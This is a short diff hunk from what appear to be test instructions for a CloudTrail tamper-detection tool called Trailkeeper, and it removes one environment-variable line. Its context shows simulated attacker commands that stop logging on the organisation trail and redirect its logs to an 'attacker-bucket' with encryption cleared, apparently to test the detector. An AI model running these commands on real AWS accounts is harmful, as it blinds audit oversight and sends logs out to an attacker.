@@ -62,7 +62,6 @@ In another shell, be somebody with rights in account ${account}:
   export AWS_ACCESS_KEY_ID=mallory AWS_SECRET_ACCESS_KEY=any
   export TRAILKEEPER_TABLE=${table}
   export TRAILKEEPER_DEAD_LETTERS=${outputs.DeadLetterQueueUrl}
-  export TRAILKEEPER_FUNCTIONS=${outputs.FunctionNames}
 
   aws cloudtrail stop-logging --name org-trail
   aws cloudtrail update-trail --name org-trail --s3-bucket-name attacker-bucket --kms-key-id ""
